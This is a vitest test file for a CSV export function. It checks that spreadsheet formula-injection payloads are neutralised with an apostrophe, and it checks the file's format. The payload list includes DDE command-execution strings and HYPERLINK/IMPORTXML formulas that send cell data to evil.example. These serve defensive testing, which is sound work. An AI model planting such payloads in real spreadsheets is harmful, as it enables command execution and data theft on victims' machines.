import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvCell, unclaimedCsv } from './unclaimed-csv';

/** From the public lists of formula injections (QUALITY 55). */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"klik")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1";=1+1',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
];

describe('csvCell (rule 111)', () => {
  test.each(PAYLOADS)('%j is text, and comes back whole behind its apostrophe', (payload) => {
    const [[cell]] = parse(csvCell(payload), { delimiter: ';', relax_quotes: false }) as [[string]];
    expect(cell).toBe(`'${payload}`);
  });

  test('plain text is left alone; separators, quotes and line breaks are quoted', () => {
    expect(csvCell('ABC001')).toBe('ABC001');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('"a"\r\nb')).toBe('"""a""\r\nb"');
  });
});

test('the file has a BOM, semicolons, CRLF and one row per product', () => {
  const csv = unclaimedCsv(
    [{ id: 'a', stander_id: 'ABC001', product_type: 'kort', created_at: Date.UTC(2026, 10, 4, 11) }],
    'https://tap.example.dk',
  );
  expect(csv).toBe('\uFEFFstanderId;productType;url;createdAt\r\nABC001;kort;https://tap.example.dk/ABC001;2026-11-04T11:00:00.000Z\r\n');
});
